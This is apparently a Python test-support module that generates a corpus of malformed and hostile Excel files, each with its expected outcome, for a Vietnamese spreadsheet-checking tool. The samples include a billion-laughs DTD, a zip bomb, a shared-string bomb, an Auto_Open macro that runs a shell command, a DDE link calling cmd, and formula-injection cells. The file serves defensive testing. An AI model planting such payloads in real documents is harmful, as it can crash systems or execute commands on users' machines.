"""The hostile-input corpus: `python -m tests.support.corpus DIR` writes it (the tests build it in a temporary folder).

Every case is written by code here (no hand-made binaries) and carries its expected
outcome: the exit code of `cchc-xl check`, finding codes that must (or must not) appear,
the task count, or the words of the refusal message.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
from openpyxl.styles import PatternFill

from cchc_xl.core.encodings import TCVN3, VNI, encode
from cchc_xl.excel.vba.cfb import write_cfb
from tests.support.workbooks import TITLE, sheet_workbook

HEADER = ["STT", "Nhiệm vụ", "Sản phẩm", "Đơn vị chủ trì", "Đơn vị phối hợp", "Thời gian hoàn thành", "Kinh phí"]


def task(i: int, lead: str | None = "Văn phòng Sở", deadline: object = "Quý II/2020", budget: object = 1_000_000):
    return [i, f"Nhiệm vụ số {i} về cải cách hành chính", "Báo cáo", lead, "Các phòng, đơn vị thuộc Sở", deadline,
            budget]


@dataclass
class Case:
    name: str
    exit: int
    codes: set[str] = field(default_factory=set)        # must appear
    absent: set[str] = field(default_factory=set)       # must not appear
    tasks: int | None = None
    message: str = ""                                   # part of the refusal
    slow: bool = False


CASES: list[Case] = []


def case(name: str, exit: int, **kw):
    def register(fn):
        CASES.append(Case(name, exit, **kw))
        fn.case_name = name
        BUILDERS[name] = fn
        return fn
    return register


BUILDERS: dict[str, object] = {}


def parts_of(path) -> dict[str, bytes]:
    """Every part of a package, by name."""
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def save_parts(path: Path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in parts.items():
            z.writestr(n, d)


def add_part(parts: dict[str, bytes], name: str, data: bytes, content_type: str, rel_type: str, rel_id: str) -> None:
    """A new workbook-level part: its bytes, its content type and the workbook's relationship to it."""
    parts[name] = data
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'.encode())
    target = name.removeprefix("xl/")
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", f'<Relationship Id="{rel_id}" Type="{rel_type}" Target="{target}"/></Relationships>'.encode())


def rewrite(path: Path, part: str, edit) -> None:
    parts = parts_of(path)
    parts[part] = edit(parts[part].decode("utf-8")).encode("utf-8")
    save_parts(path, parts)


def with_dtd(xml: str, dtd: str, use: str) -> str:
    """``xml`` with a DTD in front and its entities used in a new inline-string cell."""
    body = xml.split("?>", 1)[1] if xml.startswith("<?xml") else xml
    cell = f'<row r="99"><c r="A99" t="inlineStr"><is><t>{use}</t></is></c></row>'
    return dtd + body.replace("</sheetData>", cell + "</sheetData>")


def with_shared_strings(path: Path, strings: list[str], cells: dict[str, int]) -> None:
    """Add a shared-string table holding ``strings`` and cells (ref -> index) using it to sheet 1."""
    from xml.sax.saxutils import escape

    parts = parts_of(path)
    items = "".join(f"<si><t>{escape(s)}</t></si>" for s in strings)
    add_part(parts, "xl/sharedStrings.xml",
             ('<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
              f'2006/main" count="{len(cells)}" uniqueCount="{len(strings)}">{items}</sst>').encode(),
             "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
             "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings", "rIdSst")
    rows: dict[int, list[str]] = {}
    for ref, index in cells.items():
        rows.setdefault(int(re.sub(r"[A-Z]", "", ref)), []).append(f'<c r="{ref}" t="s"><v>{index}</v></c>')
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    added = "".join(f'<row r="{r}">{"".join(c)}</row>' for r, c in sorted(rows.items()))
    parts["xl/worksheets/sheet1.xml"] = sheet.replace("</sheetData>", added + "</sheetData>").encode()
    save_parts(path, parts)


def good(path: Path) -> None:
    sheet_workbook([HEADER] + [task(i) for i in range(1, 4)]).save(path)


# --------------------------------------------------------------------------- not a workbook
@case("not-a-zip.xlsx", 2, message="không phải tệp Excel")
def _(path):
    path.write_bytes("Đây là một tệp văn bản, không phải Excel.\n".encode())


@case("truncated.xlsx", 2, message="bị hỏng")
def _(path):
    good(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


@case("renamed-docx.xlsx", 2, message="tài liệu Word")
def _(path):
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")


@case("legacy.xls", 2, message="Excel 97-2003")
def _(path):
    path.write_bytes(write_cfb({"Workbook": b"\x09\x08" + b"\x00" * 2000}))


@case("xls-named-xlsx.xlsx", 2, message="Excel 97-2003")
def _(path):
    path.write_bytes(write_cfb({"Workbook": b"\x09\x08" + b"\x00" * 2000}))


@case("password.xlsx", 2, message="mật khẩu")
def _(path):
    """An encrypted OOXML package is a compound file with these two streams (MS-OFFCRYPTO)."""
    path.write_bytes(write_cfb({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00" + b"\x00" * 500,
                                "EncryptedPackage": bytes(range(256)) * 400}))


@case("empty-file.xlsx", 2, message="rỗng")
def _(path):
    path.write_bytes(b"")


@case("billion-laughs.xlsx", 2, message="DTD")
def _(path):
    good(path)
    lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
           + ']>')
    rewrite(path, "xl/worksheets/sheet1.xml", lambda s: with_dtd(s, lol, "&lol9;"))


@case("quadratic-blowup.xlsx", 2, message="DTD")
def _(path):
    good(path)
    big = "A" * 50_000
    rewrite(path, "xl/worksheets/sheet1.xml",
            lambda s: with_dtd(s, f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "{big}">]>', "&a;" * 2000))


@case("zip-bomb.xlsx", 2, message="zip bomb")
def _(path):
    good(path)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z:
        with z.open("xl/media/padding.xml", "w", force_zip64=True) as part:
            block = b" " * (1 << 20)
            for _ in range(100):  # 100 MiB of spaces: a few hundred kB compressed
                part.write(block)


# --------------------------------------------------------------------------- odd but valid workbooks
@case("empty-workbook.xlsx", 1, codes={"header-missing"}, tasks=0)
def _(path):
    openpyxl.Workbook().save(path)


@case("only-headings.xlsx", 0, tasks=0)
def _(path):
    sheet_workbook([HEADER, ["I", "CẢI CÁCH THỂ CHẾ"], ["II", "CẢI CÁCH THỦ TỤC HÀNH CHÍNH"]]).save(path)


@case("no-period.xlsx", 2, message="--period")
def _(path):
    sheet_workbook([HEADER, task(1)], title="PHỤ LỤC NHIỆM VỤ").save(path)


@case("second-sheet.xlsx", 0, tasks=3)
def _(path):
    wb = openpyxl.Workbook()
    wb.active.title = "Kế hoạch"
    wb.active["A1"] = "Nội dung kế hoạch, xem phụ lục."
    ws = wb.create_sheet("Phụ lục")
    ws["A1"] = TITLE
    for i, row in enumerate([HEADER] + [task(i) for i in range(1, 4)]):
        for j, v in enumerate(row):
            ws.cell(3 + i, j + 1, v)
    wb.save(path)


@case("header-row-15.xlsx", 0, tasks=2)
def _(path):
    wb = sheet_workbook([HEADER, task(1), task(2)], start=15)
    for r in range(2, 14):
        wb.active.cell(r, 1, f"Đoạn văn của kế hoạch, dòng {r}.")
    wb.save(path)


@case("extra-reordered-columns.xlsx", 1, codes={"lead-unit-missing"}, tasks=2)
def _(path):
    header = ["Ghi chú", "Thời gian hoàn thành", "Mã nội bộ", "Đơn vị chủ trì", "STT", "Nội dung", "Sản phẩm", "Cột thừa"]
    rows = [header, ["", "Quý I/2020", "X1", "Thanh tra Sở", 1, "Thanh tra công vụ", "Kết luận", "???"],
            ["", "Quý II/2020", "X2", None, 2, "Kiểm tra nội vụ", "Báo cáo", 42]]
    sheet_workbook(rows).save(path)


@case("hidden-rows-columns.xlsx", 1, codes={"lead-unit-missing"}, tasks=4)
def _(path):
    wb = sheet_workbook([HEADER] + [task(i) for i in range(1, 4)] + [task(4, lead=None)])
    ws = wb.active
    ws.row_dimensions[5].hidden = True
    ws.row_dimensions[7].hidden = True
    ws.column_dimensions["E"].hidden = True
    wb.save(path)


@case("merged-rows-and-columns.xlsx", 0, tasks=4, absent={"lead-unit-missing", "deadline-missing"})
def _(path):
    rows = [HEADER, ["I CẢI CÁCH THỂ CHẾ"], task(1), task(2, lead=None, deadline=None), task(3),
            task(4, lead=None)]
    wb = sheet_workbook(rows)
    ws = wb.active
    ws.merge_cells("A4:G4")          # a heading across the table
    ws.merge_cells("D5:D6")          # one lead for two tasks
    ws.merge_cells("F5:F6")          # one deadline for two tasks
    ws.merge_cells("D7:D8")
    wb.save(path)


@case("formulas-cached.xlsx", 0, tasks=2, absent={"budget-not-numeric", "task-missing"})
def _(path):
    wb = sheet_workbook([HEADER, task(1, budget=None), task(2, budget=None)])
    ws = wb.active
    ws["G4"] = "=1000*5000"
    ws["G5"] = "=G4*2"
    ws["B5"] = '=CONCATENATE("Nhiệm vụ ","ghép")'
    wb.save(path)
    cached = {"1000*5000": "5000000", "G4*2": "10000000", 'CONCATENATE("Nhiệm vụ ","ghép")': "Nhiệm vụ ghép"}

    def with_cache(s: str) -> str:  # what Excel saves: the formula and its last result
        for formula, value in cached.items():
            s = re.sub(rf"<f>{re.escape(formula)}</f><v\s*/>", f"<f>{formula}</f><v>{value}</v>", s)
        return s.replace('<c r="B5">', '<c r="B5" t="str">')  # a formula's text result is typed "str"

    rewrite(path, "xl/worksheets/sheet1.xml", with_cache)


@case("formula-errors.xlsx", 1, codes={"formula-error"}, absent={"budget-not-numeric", "lead-unit-unknown"}, tasks=2)
def _(path):
    wb = sheet_workbook([HEADER, task(1, budget=None), task(2, lead=None)])
    ws = wb.active
    ws["G4"] = "=1/0"
    ws["D5"] = "=#REF!"
    wb.save(path)

    def errors(s: str) -> str:
        s = re.sub(r'<c r="G4"([^>]*)><f>1/0</f><v\s*/?>(</v>)?', r'<c r="G4"\1 t="e"><f>1/0</f><v>#DIV/0!</v>', s)
        return re.sub(r'<c r="D5"([^>]*)><f>#REF!</f><v\s*/?>(</v>)?', r'<c r="D5"\1 t="e"><f>#REF!</f><v>#REF!</v>', s)

    rewrite(path, "xl/worksheets/sheet1.xml", errors)


@case("numbers-as-text.xlsx", 1, codes={"budget-not-numeric"}, tasks=2)
def _(path):
    sheet_workbook([HEADER, task("1", budget="15000000"), task("2", budget=2_000_000)]).save(path)


@case("dates-as-text-and-serials.xlsx", 0, tasks=3, absent={"deadline-unparsed", "deadline-out-of-period"})
def _(path):
    sheet_workbook([HEADER, task(1, deadline="30/06/2020"), task(2, deadline=43921),
                task(3, deadline=dt.datetime(2020, 9, 30))]).save(path)


@case("dimension-lies.xlsx", 0, tasks=3)
def _(path):
    good(path)

    def lie(s: str) -> str:
        s = re.sub(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:XFD1048576"/>', s)
        return s.replace("</sheetData>", '<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>')

    rewrite(path, "xl/worksheets/sheet1.xml", lie)


@case("stray-space-last-row.xlsx", 0, tasks=3)
def _(path):
    """A space typed on row 1,048,576 (and a whole column formatted): the used range reaches the sheet's end."""
    wb = sheet_workbook([HEADER, task(1), task(2), task(3)])
    ws = wb.active
    ws.cell(1_048_576, 2).value = "  "
    ws.cell(1_048_576, 4).fill = PatternFill("solid", fgColor="FFFF00")
    wb.save(path)


@case("stray-value-last-row.xlsx", 1, codes={"task-missing", "lead-unit-unknown"}, absent={"row-fragment"}, tasks=3)
def _(path):
    """A stray 'x' on row 1,048,576: reported on its own cell, never joined to the last task a million rows up."""
    wb = sheet_workbook([HEADER, task(1), task(2), task(3)])
    wb.active.cell(1_048_576, 4).value = "x"
    wb.save(path)


@case("rows-100k.xlsx", 0, tasks=100_000, slow=True)
def _(path):
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("Phụ lục")
    ws.append([TITLE])
    ws.append([])
    ws.append(HEADER)
    for i in range(1, 100_001):
        ws.append([i, f"Nhiệm vụ số {i} về cải cách hành chính", "Báo cáo", "Văn phòng Sở",
                   "Các phòng, đơn vị thuộc Sở", f"Quý {['I', 'II', 'III', 'IV'][i % 4]}/2020", 1000 * (i % 97 + 1)])
    wb.save(path)


@case("long-cells.xlsx", 1, codes={"lead-unit-unknown", "deadline-unparsed"}, tasks=2)
def _(path):
    long = ("Nội dung rất dài, " * 2000)[:32767]
    sheet_workbook([HEADER, [1, long, long, long, long, long, long], task(2)]).save(path)


@case("formula-injection.xlsx", 1, tasks=2)
def _(path):
    wb = sheet_workbook([HEADER, task(1), task(2, lead=None)])
    cell = wb.active["B4"]
    cell.value, cell.data_type = '=HYPERLINK("http://example.invalid","bấm vào")', "s"
    wb.save(path)


@case("weird-sheet-name.xlsx", 1, codes={"lead-unit-missing"}, tasks=2)
def _(path):
    sheet_workbook([HEADER, task(1), task(2, lead=None)], sheet="Phụ lục (bản 2)'s").save(path)


@case("far-column.xlsx", 0, tasks=1)
def _(path):
    wb = sheet_workbook([HEADER, task(1)])
    wb.active["XFD2"] = "ô ở cột cuối cùng"
    wb.save(path)


@case("chartsheet.xlsx", 0, tasks=2)
def _(path):
    from openpyxl.chart import BarChart, Reference

    wb = sheet_workbook([HEADER, task(1), task(2)])
    chart = BarChart()
    chart.add_data(Reference(wb.active, min_col=7, min_row=3, max_row=5), titles_from_data=True)
    wb.create_chartsheet("Biểu đồ").add_chart(chart)
    wb.save(path)


@case("unicode-nfd.xlsx", 0, tasks=2, absent={"lead-unit-unknown", "coord-unit-unknown"})
def _(path):
    import unicodedata

    nfd = lambda t: unicodedata.normalize("NFD", t)  # noqa: E731
    sheet_workbook([[nfd(h) for h in HEADER], task(1, lead=nfd("Thanh tra Sở")), task(2, lead=nfd("Phòng Pháp chế"))],
               title=nfd(TITLE)).save(path)


@case("tcvn3.xlsx", 1, codes={"encoding-legacy", "lead-unit-missing"}, absent={"lead-unit-unknown"}, tasks=2)
def _(path):
    enc = lambda t: encode(t, TCVN3)  # noqa: E731
    header = [enc(h.lower()).upper() if h == "STT" else enc(h) for h in HEADER]
    sheet_workbook([header, [1, enc("Rà soát thủ tục hành chính"), enc("Báo cáo"), enc("Văn phòng Sở"),
                         enc("Thanh tra Sở"), enc("Quý II/2020"), 1000],
                [2, enc("Tuyên truyền cải cách hành chính"), enc("Kế hoạch"), None, enc("Các phòng, đơn vị thuộc Sở"),
                 enc("Năm 2020"), 2000]], title=enc("Kế hoạch cải cách hành chính năm 2020")).save(path)


@case("vni.xlsx", 0, codes={"encoding-legacy"}, absent={"lead-unit-unknown", "deadline-unparsed"}, tasks=2)
def _(path):
    enc = lambda t: encode(t, VNI)  # noqa: E731
    header = [enc(h) for h in HEADER]
    sheet_workbook([header, [1, enc("Rà soát thủ tục hành chính"), enc("Báo cáo"), enc("Phòng Kế hoạch - Tài chính"),
                         enc("Văn phòng Sở"), enc("Quý III/2020"), 1000],
                [2, enc("Kiểm tra công vụ"), enc("Kết luận"), enc("Thanh tra Sở"), enc("Văn phòng Sở"),
                 enc("Tháng 10/2020"), 2000]], title=enc("Kế hoạch cải cách hành chính năm 2020")).save(path)


@case("macro.xlsm", 1, codes={"lead-unit-missing"}, tasks=2)
def _(path):
    """An .xlsm whose Auto_Open would run a shell: it is read, never run."""
    from cchc_xl.excel.build import xlwings_template
    from cchc_xl.excel.vba.project import Module, read_project, write_project

    with zipfile.ZipFile(xlwings_template()) as z:
        project = read_project(z.read("xl/vbaProject.bin"))
    evil = b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\n    Shell "cmd /c echo pwned"\r\nEnd Sub\r\n'
    project.modules = [m for m in project.modules if m.name in ("ThisWorkbook", "Sheet2")] + [Module("Module1", evil)]
    buf = io.BytesIO()
    sheet_workbook([HEADER, task(1), task(2, lead=None)]).save(buf)
    parts = parts_of(buf)
    add_part(parts, "xl/vbaProject.bin", write_project(project, "VBAProject"), "application/vnd.ms-office.vbaProject",
             "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "rIdVba")
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    save_parts(path, parts)


@case("legacy-layout.xlsx", 1, codes={"deadline-out-of-period"}, tasks=17, absent={"lead-unit-missing"})
def _(path):
    from tests.support.legacy import write_legacy

    write_legacy(path, merge_headings=True)


@case("two-row-header.xlsx", 1, codes={"lead-unit-missing", "row-fragment"}, tasks=6)
def _(path):
    from tests.support.builders import two_row_header_merged_areas

    two_row_header_merged_areas(path)


# --------------------------------------------------------------------------- odd submissions that once stopped whole runs
def dde_link_without_rels(path: Path) -> None:
    """A DDE link part (valid OOXML: a DDE link needs no relationships part) that openpyxl cannot keep."""
    good(path)
    parts = parts_of(path)
    add_part(parts, "xl/externalLinks/externalLink1.xml",
             b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats'
             b'.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" '
             b'advise="1"/></ddeItems></ddeLink></externalLink>',
             "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
             "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink", "rIdX1")
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdX1"/></externalReferences>')
    save_parts(path, parts)


@case("dde-link-without-rels.xlsx", 0, tasks=3)
def _(path):
    dde_link_without_rels(path)


@case("bad-marks-memory.xlsx", 1, codes={"lead-unit-missing"}, tasks=2)
def _(path):
    """An annotated copy whose hidden memory sheet was edited: cells that cannot exist, a broken fill."""
    wb = sheet_workbook([HEADER, task(1), task(2, lead=None)])
    memory = wb.create_sheet("_cchc_marks")
    for row in (["sheet", "cell", "fill", "comment", "author"], ["Phụ lục", "A0", "", None, None],
                ["Phụ lục", "ZZZZ9", "{hỏng", "x", None], ["Không có", "A1", "", None, None], [42, None, 7, 8, 9]):
        memory.append(row)
    memory.sheet_state = "veryHidden"
    wb.save(path)


@case("control-character-escape.xlsx", 1, codes={"budget-not-numeric"}, tasks=2)
def _(path):
    """Excel writes a control character in a cell as _x0001_: read, reported, never written back raw."""
    sheet_workbook([HEADER, task(1, budget=None), task(2)]).save(path)
    with_shared_strings(path, ["15.000.000 đồng_x0001_ theo dự toán"], {"G4": 0})


@case("budget-309-nines.xlsx", 1, codes={"budget-not-numeric"}, tasks=2)
def _(path):
    sheet_workbook([HEADER, task(1, budget="9" * 309), task(2)]).save(path)


@case("budget-infinite.xlsx", 0, codes={"budget-implausible"}, tasks=2)
def _(path):
    sheet_workbook([HEADER, task(1, budget=12345), task(2)]).save(path)
    rewrite(path, "xl/worksheets/sheet1.xml", lambda s: s.replace("<v>12345</v>", "<v>1e999</v>"))


@case("strict-ooxml.xlsx", 2, message="Strict Open XML")
def _(path):
    good(path)
    parts = parts_of(path)
    for name in ("xl/workbook.xml", "xl/worksheets/sheet1.xml"):
        parts[name] = parts[name].replace(b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                                          b"http://purl.oclc.org/ooxml/spreadsheetml/main")
    save_parts(path, parts)


@case("numbers-in-name-cells.xlsx", 1, codes={"lead-unit-unknown"}, tasks=2)
def _(path):
    sheet_workbook([HEADER, [1, "Rà soát thủ tục", 42, 12345, 7, "Quý II/2020", 1000], task(2)]).save(path)


@case("shared-string-bomb.xlsx", 2, message="quá nhiều chữ")
def _(path):
    """117 KB that decodes to 650 MB: one 32,767-character string referenced by 20,000 cells."""
    sheet_workbook([HEADER, task(1)]).save(path)
    with_shared_strings(path, ["x" * 32767], {f"B{r}": 0 for r in range(5, 20005)})


@case("long-continuation.xlsx", 0, codes={"row-fragment"}, tasks=1)
def _(path):
    """Page-break rows that join into a 64,000-character task (over a cell's 32,767)."""
    part = "tiếp tục rà soát các văn bản " * 1100
    sheet_workbook([HEADER, task(1), [None, part[:32000]], [None, part[:32000]]]).save(path)


@case("property-formula.xlsx", 0, tasks=1)
def _(path):
    """Hidden template properties that look like formulas: copied as text, never as formulas."""
    wb = sheet_workbook([HEADER, task(1)])
    props = wb.create_sheet("_cchc")
    for key, value in (("template_version", '=WEBSERVICE("http://example.invalid/?"&A1)'), ("period", "2020"),
                       ("unit", "=1+1")):
        props.append([key, value])
        props.cell(props.max_row, 2).data_type = "s"
    props.sheet_state = "veryHidden"
    wb.save(path)


def build(folder: Path) -> list[Case]:
    """Write every case into ``folder``; the cases, with their expected outcomes."""
    folder.mkdir(parents=True, exist_ok=True)
    for c in CASES:
        BUILDERS[c.name](folder / c.name)
    return CASES


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python -m tests.support.corpus DIR")
    for c in build(Path(sys.argv[1])):
        print(f"{c.name:34} exit {c.exit}  {sorted(c.codes) or c.message}")
